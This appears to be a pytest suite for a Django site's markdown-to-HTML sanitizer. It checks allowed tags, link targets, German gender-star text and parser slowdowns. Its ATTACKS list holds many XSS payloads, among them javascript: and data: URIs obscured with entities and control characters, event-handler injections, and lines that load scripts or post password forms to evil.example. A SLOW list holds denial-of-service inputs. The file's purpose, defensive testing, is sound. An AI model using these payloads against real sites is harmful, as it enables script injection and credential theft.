import re
import time
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString

from twincity.core import markdown

PLAIN = (
    "p br strong em del code pre blockquote hr h2 h3 h4 ul li dl dt dd table thead tbody tr th td"
)
ALLOWED = {  # every tag that a text may become, with its attributes
    **dict.fromkeys(PLAIN.split(), ()),
    "a": ("href", "rel", "title"),
    "abbr": ("title",),
    "ol": ("start",),
}
REL = "noopener noreferrer nofollow ugc"


class Reader(HTMLParser):
    """What a browser would make of it: tags with attributes, and the text between them."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.text, self.others = [], "", []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def leads_nowhere_else(href):
    """As the URL standard reads an address: tabs and line ends skipped, a backslash is a slash."""
    href = re.sub(r"[\t\n\r]", "", href.strip("".join(map(chr, range(33))))).replace("\\", "/")
    return bool(re.match(r"(https?://[^/]|mailto:|/(?!/)|#)", href, re.IGNORECASE))


ATTACKS = [
    # scripts and other HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p><script>alert(1)</script><p>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" /><b>',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=/x onclick=alert(1) id=top class=button style=position:fixed>x</a>",
    "<p id=main class=sheet style='position:fixed;inset:0'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<div markdown=1>\n\n<script>alert(1)</script>\n\n</div>",
    "<div\n  onclick='alert(1)'\n>x</div>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03<b onclick=alert(1)>",
    # HTML within something that is allowed
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "``` {.x #id onclick=alert(1) style=x}\n<script>alert(1)</script>\n```",
    "~~~ { #a .b key=val }\nx\n~~~",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "# Heading {: #id .class onclick=alert(1) }",
    "a | b\n:-: | -:\n<script>alert(1)</script> | <img src=x onerror=alert(1)>",
    "term <script>\n: <img src=x onerror=alert(1)>",
    "<script>\n: definition",
    # abbreviations
    '*[x]: "><script>alert(1)</script>\n\nx',
    "*[x]: ' onmouseover='alert(1)\n\nx",
    '*[x]: " onmouseover="alert(1)\n\nx',
    "*[<script>]: x\n\n<script>alert(1)</script>",
    "*[javascript]: x\n\n[a](javascript:alert(1))",
    '*[a]: x\n\n[b](/a "a")',
    # addresses that run something
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](java\rscript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\x1bjavascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\x02javascript:alert(1))",
    "[x](java&#09;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106&#0000097vascript:alert(1))",
    "[x](&#14;javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](`javascript:alert(1)`)",
    "[x](javascript:alert`1`)",
    "[x](javascript%3Aalert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](VbScript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/x)",
    "[x](tel:+490000)",
    # addresses that lead away without saying so
    "[x](//evil.example)",
    "[x](<//evil.example>)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](/\\/evil.example)",
    "[x](/&#92;evil.example)",
    "[x](/&#9;/evil.example)",
    "[x](/&#10;/evil.example)",
    "[x](/&Tab;/evil.example)",
    "[x](/&sol;evil.example)",
    "[x](&#47;/evil.example)",
    "[x](</\t/evil.example>)",
    "[x](https:evil.example)",
    "[x](http:/evil.example)",
    "[x](evil.example)",
    "[x](../admin/)",
    "[x](?next=x)",
    # references
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][]\n\n[x]: <javascript:alert(1)> 'title'",
    "[x][y]\n\n[y]: //evil.example\n",
    "[x][y]\n\n[y]: /ok '\" onclick=\"alert(1)'",
    "[x][y]\n\n[y]:\n  data:text/html,x",
    # titles and nesting
    '[x](/ok "\\" onclick=alert(1) x=\\"")',
    "[x](/ok '\"><script>alert(1)</script>')",
    '[x](/ok" onclick="alert(1))',
    "[x](/ok onclick=alert(1))",
    "[a](javascript:alert(1)[b](/ok))",
    "[[a](javascript:alert(1))](/ok)",
    "[a](/ok)[b](javascript:alert(1))",
    "**[x](javascript:alert(1))**",
    "[**x**](javascript:alert(1))",
    "[![x](//evil.example/x.png)](javascript:alert(1))",
    # pictures
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    '![x](" onerror="alert(1))',
    # automatic links
    "<javascript:alert(1)>",
    "<javascript://evil.example/%0aalert(1)>",
    "<data:text/html,x>",
    "<vbscript://x>",
    "<file:///etc/passwd>",
    "<ftp://evil.example/x>",
    '<https://evil.example/" onmouseover="alert(1)>',
    "<https://evil.example/'onmouseover='alert(1)>",
    "<https://evil.example/?<script>alert(1)</script>>",
    '<x@evil.example" onmouseover="alert(1)>',
    "<mailto:x@evil.example?subject=<script>>",
    '<"onmouseover=alert(1)//"@evil.example>',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_harms_comes_out(attack):
    read = Reader(markdown.render(f"before\n\n{attack}\n\nafter"))

    surplus = [
        (tag, name)
        for tag, names in read.tags
        for name in names
        if name not in ALLOWED.get(tag, ())
    ]
    addresses = [names["href"] for _tag, names in read.tags if "href" in names]
    assert {tag for tag, _names in read.tags} - ALLOWED.keys() == set()
    assert surplus == []
    assert read.others == []
    assert [href for href in addresses if not leads_nowhere_else(href)] == []
    assert (read.text[:6], read.text[-5:]) == ("before", "after")


@pytest.mark.parametrize(
    ("href", "is_ours"),
    [
        ("https://x.example", True),
        ("mailto:a@b.example", True),
        ("/de/", True),
        ("#top", True),
        ("javascript:alert(1)", False),
        ("\x01javascript:alert(1)", False),
        ("//evil.example", False),
        ("/\\evil.example", False),
        ("/\t/evil.example", False),
        ("x", False),
    ],
)
def test_the_test_itself_knows_what_leads_away(href, is_ours):
    assert leads_nowhere_else(href) is is_ours


@pytest.mark.parametrize(
    "href",
    [
        "https://example.org/a?b=c&d=(e)#f",
        "http://example.org",
        "HTTPS://EXAMPLE.ORG/",
        "mailto:anna@example.org?subject=Hallo%20Minsk",
        "/de/toolbox/",
        "/",
        "#tips",
        "/a*b*c",
        "/a_b_c",
    ],
)
def test_a_link_of_ours_stays_and_says_what_it_is(href):
    read = Reader(markdown.render(f'[Minsk]({href} "Die Stadt")'))

    assert read.tags == [("p", {}), ("a", {"href": href, "title": "Die Stadt", "rel": REL})]
    assert read.text == "Minsk"


def test_a_link_that_leads_elsewhere_becomes_its_words():
    assert markdown.render("[Minsk](javascript:x)") == f'<p><a rel="{REL}">Minsk</a></p>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("   \n\n  ", ""),
        ("Zwei Städte", "<p>Zwei Städte</p>"),
        ("eins  \nzwei", "<p>eins<br>\nzwei</p>"),
        ("*a* **b** ***c*** _d_", "<p><em>a</em> <strong>b</strong> <strong><em>c</em></strong> <em>d</em></p>"),
        ("a_b_c", "<p>a_b_c</p>"),
        ("`a*b*c`", "<p><code>a*b*c</code></p>"),
        ("> a\n> b", "<blockquote>\n<p>a\nb</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("- a\n\n1. b", "<ul>\n<li>a</li>\n</ul>\n<ol>\n<li>b</li>\n</ol>"),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
        ("Wort\n: Sinn", "<dl>\n<dt>Wort</dt>\n<dd>Sinn</dd>\n</dl>"),
        ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"),
        ("*[EU]: Union\n\nDie EU.", '<p>Die <abbr title="Union">EU</abbr>.</p>'),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
        ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>"),
        ("AT&amp;T &lt;b&gt;", "<p>AT&amp;T &lt;b&gt;</p>"),
        (r"\*a\*", "<p>*a*</p>"),
        ("![Bild](/x.png)", "<p>![Bild](/x.png)</p>"),
        ("<https://example.org/a*b*c>", f'<p><a href="https://example.org/a*b*c" rel="{REL}">https://example.org/a*b*c</a></p>'),
        ("https://example.org", "<p>https://example.org</p>"),
        ("[a [b] c](/d)", f'<p><a href="/d" rel="{REL}">a [b] c</a></p>'),
        ("[a][B]\n\n[b]: /c 'd'", f'<p><a href="/c" title="d" rel="{REL}">a</a></p>'),
        ("[a]\n\n[a]: /c", f'<p><a href="/c" rel="{REL}">a</a></p>'),
        ("[a] and [b]", "<p>[a] and [b]</p>"),
    ],
)  # fmt: skip
def test_what_a_writer_means_is_what_a_reader_gets(text, html):
    assert markdown.render(text) == html


def test_a_table_has_a_head_and_rows():
    html = markdown.render("| Zeit | Was |\n|---:|:---|\n| 10 | *Ankommen* |\n| 20 |")

    read = Reader(html)
    assert [tag for tag, _names in read.tags] == (
        "table thead tr th th tbody tr td em td tr td td".replace("td em td", "td td em").split()
    )
    assert {name for _tag, names in read.tags for name in names} == set()
    assert read.text.split() == ["Zeit", "Was", "10", "Ankommen", "20"]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Partner*innen und Macher*innen", "<p>Partner*innen und Macher*innen</p>"),
        ("Ein*e Partner*in", "<p>Ein*e Partner*in</p>"),
        ("**Partner*innen** und *Macher*innen*", "<p><strong>Partner*innen</strong> und <em>Macher*innen</em></p>"),
        ("- Bürger*innen\n- Schüler*innen", "<ul>\n<li>Bürger*innen</li>\n<li>Schüler*innen</li>\n</ul>"),
        ("## Gastgeber*innen und Gäste*", "<h2>Gastgeber*innen und Gäste*</h2>"),
        ("[Partner*innen](/a) der Macher*innen", f'<p><a href="/a" rel="{REL}">Partner*innen</a> der Macher*innen</p>'),
        ("2*3*4", "<p>2*3*4</p>"),
    ],
)  # fmt: skip
def test_the_gender_star_is_a_letter(text, html):
    assert markdown.render(text) == html


@pytest.mark.parametrize(
    ("level", "tag"), [(1, "h2"), (2, "h2"), (3, "h3"), (4, "h4"), (5, "h4"), (6, "h4")]
)
def test_headings_stay_below_the_page(level, tag):
    assert markdown.render(f"{'#' * level} Ablauf") == f"<{tag}>Ablauf</{tag}>"


def test_an_underlined_heading_is_one_too():
    assert markdown.render("Ablauf\n===") == "<h2>Ablauf</h2>"


def test_a_text_is_cut_at_20000_characters():
    html = markdown.render("a" * 19_999 + "bc")

    assert html == f"<p>{'a' * 19_999}b</p>"


def test_the_result_may_be_shown_as_it_is_and_is_kept():
    first, second = markdown.render("*a* <b>"), markdown.render("*a* <b>")

    assert isinstance(first, SafeString)
    assert second is first


SLOW = {  # texts that a parser can take for ever, or use up its stack, over
    "strong": "**a " * 3000,
    "emphasis": "*a _b " * 3300,
    "emphasis closed late": "*a " * 3300 + "a* " * 3300,
    "three stars": "***a " * 2000 + "a*** " * 2000,
    "stars": "*" * 20_000,
    "quotations": "> " * 2000,
    "quotations in many lines": ("> " * 30 + "a\n") * 320,
    "lists": "- " * 3000,
    "numbered lists": "1. " * 5000,
    "lists of both kinds": "- 1. " * 4000,
    "lists and quotations": "- > " * 5000,
    "lists by indentation": "\n".join("    " * level + "- a" for level in range(90)),
    "definitions": "a\n: b\n" * 3000,
    "definitions in definitions": "a\n" + ": " * 9990,
    "rules": "- " * 9999 + "a",
    "brackets": "[" * 5000,
    "more brackets": "[" * 20_000,
    "brackets never closed": "[a" * 5000 + "]" * 5000,
    "picture brackets": "![" * 10_000,
    "references": "[x][" * 5000,
    "references to references": "[a]" * 6600 + "\n\n[a]: /x",
    "addresses never closed": "[a](" * 5000,
    "addresses never ended": "[a](<" * 4000,
    "titles never closed": '[a](b "' * 2500,
    "code never closed": "``a`" * 5000,
    "code in a row": "`|" * 6600 + "\n" + "-|" * 3300,
    "fences": "```\n" * 5000,
    "fences of another kind": "``` x\ny\n" * 2500,
    "headings": "# a\n" * 5000,
    "headings in a line": "#" * 20_000,
    "underlined headings": "a\n=\n" * 5000,
    "abbreviations": "*[a]: b\n" * 2000 + "a " * 1000,
    "many abbreviations": "".join(f"*[a{n}]: b\n" for n in range(1000)) + "a5 " * 1500,
    "many references": "".join(f"[a{n}]: /x\n" for n in range(800)) + "[a1] " * 1500,
    "wide tables": "a|" * 3300 + "b\n" + "-|" * 3300 + "-\n" + "|\n" * 3300,
    "long tables": "|a|b|\n|-|-|\n" + "|x|y|\n" * 3300,
    "pipes": "|" * 20_000,
    "tags": "<a " * 6600,
    "entities": "&" * 20_000,
    "addresses in angles": "<a@b" * 5000,
    "backslashes": "\\" * 20_000,
    "empty lines": "\n" * 20_000,
    "spaces": "a" + " " * 19_998 + "b",
}


@pytest.mark.parametrize("name", SLOW)
def test_no_text_takes_long(name):
    started = time.process_time()

    markdown.render.__wrapped__(SLOW[name])

    assert time.process_time() - started < 2


def test_twenty_lists_in_each_other_are_lists_and_the_rest_is_text():
    html = markdown.render("- " * 30 + "a")

    assert html.count("<ul>") == 21
    assert Reader(html).text.split() == ["-"] * 9 + ["a"]


def test_a_long_address_and_a_table_of_twenty_columns_work():
    address = "/" + "a" * 900
    head, rule, row = ("|" + "|".join([cell] * 19) + "|" for cell in ("a", "-", "b"))

    assert Reader(markdown.render(f"[x]({address})")).tags[1][1]["href"] == address
    assert markdown.render(f"{head}\n{rule}\n{row}").count("<td>") == 19


def test_a_paragraph_of_two_hundred_lines_stays_one():
    assert markdown.render("a\n" * 200).count("<p>") == 1
    assert markdown.render("a\n" * 201).count("<p>") == 2
